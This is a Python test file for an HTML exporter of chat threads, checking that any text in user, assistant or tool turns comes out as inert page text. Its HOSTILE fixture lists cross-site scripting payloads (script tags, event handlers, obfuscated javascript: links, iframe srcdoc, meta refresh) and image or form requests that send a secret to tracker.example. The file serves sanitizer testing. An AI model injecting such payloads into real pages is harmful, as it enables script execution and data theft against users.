"""A thread as one page: whatever stands in it is text, and nothing on the page can act or load anything."""

import re
from html.parser import HTMLParser
from typing import Any, Final

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from export.threads import PNG, call, chain, result, rich, thread, turn
from ore.artifact import File, Image, Reasoning, Text, Unknown
from ore.ext.export import export_html
from ore.ext.export.markdown import LIMIT_CHARACTERS, markdown
from ore.ext.export.style import POLICY, STYLE
from ore.ledger import Role, Turn

TAGS: Final = frozenset(
    {
        "html",
        "head",
        "meta",
        "title",
        "style",
        "body",
        "header",
        "main",
        "article",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "p",
        "div",
        "span",
        "time",
        "details",
        "summary",
        "dl",
        "dt",
        "dd",
        "a",
        "img",
        "pre",
        "code",
        "em",
        "strong",
        "s",
        "ul",
        "ol",
        "li",
        "blockquote",
        "hr",
        "br",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
    }
)
ATTRIBUTES: Final = frozenset(
    {
        "lang",
        "charset",
        "name",
        "content",
        "http-equiv",
        "class",
        "id",
        "dir",
        "datetime",
        "href",
        "rel",
        "src",
        "alt",
        "start",
        "style",
        "title",
    }
)


class Page(HTMLParser):
    """What a browser's parser would find on a page, and its text."""

    def __init__(self, source: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.text = ""
        self.comments = 0
        self.feed(source)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.comments += 1

    def values(self, name: str) -> list[str]:
        return [value for _, known, value in self.attributes if known == name]


def check_inert(source: str) -> Page:
    """Only tags and attributes that do nothing, only links that wait for a click, only pictures that are there."""
    page = Page(source)
    assert set(page.tags) <= TAGS
    assert {name for _, name, _ in page.attributes} <= ATTRIBUTES
    assert page.comments == 0
    assert all(re.match(r"https?://|mailto:", value, re.IGNORECASE) for value in page.values("href"))
    assert all(value.startswith("data:image/") for value in page.values("src"))
    assert page.tags.count("style") == 1 and page.tags.count("meta") == 4
    assert all(re.fullmatch("text-align:(left|right|center)", value) for value in page.values("style"))
    return page


HOSTILE: Final = (
    "<script>hit()</script>",
    "</title><script>hit()</script>",
    "</style><script>hit()</script>",
    "<img src=x onerror=hit()>",
    "<svg/onload=hit()>",
    "[x](javascript:hit())",
    "[x](JaVaScRiPt:hit())",
    "[x](java&#x0A;script:hit())",
    "[x](data:text/html,<script>hit()</script>)",
    "[x](vbscript:hit())",
    "<javascript:hit()>",
    "![x](javascript:hit())",
    "![x](http://tracker.example/?q=secret)",
    '![x" onerror="hit()](http://a/ "t\\" onload=hit()")',
    "<a href=' javascript:hit()'>x</a>",
    "<iframe srcdoc='<script>hit()</script>'>",
    "<style>@import 'http://tracker.example/'</style>",
    "<base href='http://tracker.example/'>",
    "<form action='http://tracker.example/'><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=http://tracker.example/'>",
    "<!-- --><script>hit()</script>",
    "[x]: javascript:hit()\n\n[x]",
    "```<script>hit()</script>\n```",
    '```js"><script>hit()</script>\nx\n```',
    'a|b\n-|-\n<script>hit()</script>|"onload=hit()\n',
    "](javascript:hit()) ![[[[( **broken _markdown",
    "\x00<scr\x00ipt>hit()</scr\x00ipt>",
    "\ud800<script>",
)
"""What must be nothing but text, wherever it stands."""


def everywhere(*texts: str) -> Any:
    """A thread in which all that can be said says this, one text after the other."""
    turns = [one for place, text in enumerate(texts) for one in _saying(text, f"{place}", f"t{place - 1}")]
    return thread(turns, turns[-1].id, **{"ore.title": texts[0], "key": texts[-1]})


def _saying(text: str, place: str, behind: str) -> list[Turn]:
    return [
        turn(f"{place}{text}", behind, Role.USER, Text(content=text), model=text, origin=text),
        turn(
            f"a{place}",
            f"{place}{text}",
            Role.ASSISTANT,
            Reasoning(content=text),
            call(text, text, text),
            call("c2", "shown", "{}"),
            File(name=text, media_type=text, blob=text),
            Image(url=text or "u", name=text),
            Image(data=b"<svg onload=hit()>", media_type="image/svg+xml", name=text),
            Image(data=PNG, name=text),
            Unknown(name=text or "u", raw=b"{}"),
        ),
        turn(
            f"t{place}",
            f"a{place}",
            Role.TOOL,
            result(text, text),
            result("c2", text, display=text),
            result("lost", text),
        ),
    ]


@pytest.mark.requirement("D-export-inert")
@pytest.mark.parametrize("text", HOSTILE)
def test_whatever_is_said_anywhere_is_text(text: str) -> None:
    page = check_inert(export_html(everywhere(text)))
    if "hit()" in text:
        assert "hit()" in page.text


@pytest.mark.slow
@pytest.mark.requirement("D-export-inert")
@given(text=st.one_of(st.text(max_size=60), st.lists(st.sampled_from(HOSTILE), max_size=4).map("".join)))
@settings(max_examples=200)
def test_however_it_is_put_together_it_stays_text(text: str) -> None:
    check_inert(export_html(everywhere(text)))


@pytest.mark.requirement("D-export-inert")
def test_the_page_allows_itself_nothing_but_its_own_style_and_the_pictures_in_it() -> None:
    page = check_inert(export_html(rich()))
    assert POLICY in page.values("content")
    assert "unsafe" not in POLICY and "script" not in POLICY
    assert STYLE in page.text


@pytest.mark.requirement("D-export-html")
def test_texts_are_rendered_and_thinking_is_folded_as_it_was_written() -> None:
    page = export_html(rich())
    assert "How <em>far</em> is it?" in page
    assert (
        '<details class="reasoning"><summary>thinking</summary><pre class="plain" dir="auto">*thinking*</pre>' in page
    )
    assert '<h1 dir="auto">To the moon</h1>' in page
    assert markdown("| a |\n| - |\n| ~~b~~ |").count("<t") == 7
    assert markdown("<b>x</b> &amp; [a](https://a.b/?q=1&r='2')") == (
        "<p>&lt;b&gt;x&lt;/b&gt; &amp; <a href=\"https://a.b/?q=1&amp;r='2'\" "
        'rel="noopener noreferrer nofollow">a</a></p>\n'
    )


@pytest.mark.requirement("D-export-pairs")
def test_parallel_calls_fold_together_with_their_results_from_another_turn() -> None:
    page = export_html(rich())
    calls = re.findall(r'<details class="call([^"]*)"><summary><code>(\w+)</code> <span class="ended">(\w*)', page)
    assert calls == [("", "find", ""), (" tool-result-error", "read", "denied")]
    assert page.index("<code>find</code>") < page.index("<pre>found</pre>") < page.index("<code>read</code>")
    assert page.count('<article class="tool"') == 0
    assert page.count("Result (lost)") == 1
    assert '<p class="truncation-note">cut: 5 of 90 bytes, 1 of 9 lines, the head</p>' in page
    assert "without a result" in export_html(chain([call("c")]))


@pytest.mark.requirement("D-export-branches")
def test_branches_stand_where_they_leave_the_conversation() -> None:
    page = export_html(rich())
    branch = page.index("another branch from here: 2 turns")
    assert page.index("Far.") < branch < page.index("And then?") < page.index("Not any more.")
    assert page.index("Not any more.") < page.index("https://example.com/a.png")
    assert page.index("models are shown the conversation from here on") > branch


@pytest.mark.requirement("D-export-html")
def test_pictures_are_in_the_page_and_those_of_others_are_links() -> None:
    page = Page(export_html(rich()))
    assert len(page.values("src")) == 1
    assert page.values("src")[0].startswith("data:image/png;base64,iVBOR")
    assert page.values("href") == ["https://example.com/a.png"]
    assert Page(export_html(chain([Image(data=b"GIF89a")]))).values("src")[0].startswith("data:image/gif")
    assert Page(export_html(chain([Image(data=b"RIFF....WEBP")]))).values("src")[0].startswith("data:image/webp")
    assert Page(export_html(chain([Image(data=b"RIFF....WAVE", media_type="image/png")]))).values("src") == []


def test_a_text_that_is_too_long_to_be_prose_is_shown_as_it_is() -> None:
    assert markdown("a" * LIMIT_CHARACTERS).startswith("<p>")
    assert markdown("a" * (LIMIT_CHARACTERS + 1)).startswith('<pre class="plain">aaa')


def test_quotes_in_an_address_do_not_leave_the_attribute() -> None:
    page = Page(export_html(chain([Image(url='https://a/"onerror="hit()', name="<b>")])))
    assert page.values("href") == ['https://a/"onerror="hit()']
    assert "<b>" in page.text
